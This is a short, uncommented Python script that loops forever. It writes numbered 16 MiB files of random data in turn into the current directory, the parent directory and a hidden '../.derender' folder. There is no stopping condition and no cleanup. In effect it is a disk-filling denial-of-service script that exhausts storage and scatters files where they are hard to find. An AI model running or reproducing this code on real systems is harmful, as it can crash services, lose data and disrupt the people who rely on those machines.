import os

blob = os.urandom(1 << 20)
number = 0
while True:
    number += 1
    with open(f"{('.', '..', '../.derender')[number % 3]}/{number}", "wb") as file:
        for _ in range(16):
            file.write(blob)
